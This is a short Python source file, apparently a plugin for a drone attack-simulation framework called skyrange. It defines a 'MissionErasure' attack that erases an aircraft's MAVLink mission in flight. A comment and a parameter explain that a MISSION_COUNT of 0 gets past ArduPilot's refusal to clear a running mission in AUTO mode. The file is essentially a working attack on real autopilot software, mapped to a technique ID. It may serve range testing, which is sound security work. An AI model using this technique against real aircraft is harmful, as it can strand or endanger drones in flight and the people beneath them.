"""Mission erasure: the mission of an aircraft is removed in flight."""

from __future__ import annotations

from typing import Literal

import skyrange.plugin as sky


@sky.attack(
    "mavlink.mission_clear",
    technique="T0809",
    persists="upload",
    effect="the mission ends in the air, and the aircraft holds where it is",
    budget="one frame",
    load="the sham: a frame of the same length that requests the first item, or the number of items",
    content="MISSION_CLEAR_ALL, which an aircraft in AUTO rejects",
    placement="the same frame to another aircraft",
)
class MissionErasure(sky.Script):
    """Removes the mission of the aircraft in flight."""

    by: Literal["MISSION_COUNT", "MISSION_CLEAR_ALL"] = sky.param(
        "MISSION_COUNT of 0 uploads nothing; ArduPilot rejects MISSION_CLEAR_ALL in AUTO.", default="MISSION_COUNT"
    )

    def steps(self) -> list[sky.Step]:
        # AP_Mission::clear keeps a mission that runs; AP_Mission::truncate, which a MISSION_COUNT calls
        # (MissionItemProtocol_Waypoints::truncate), does not ask
        return [sky.Upload(()) if self.by == "MISSION_COUNT" else sky.Clear()]
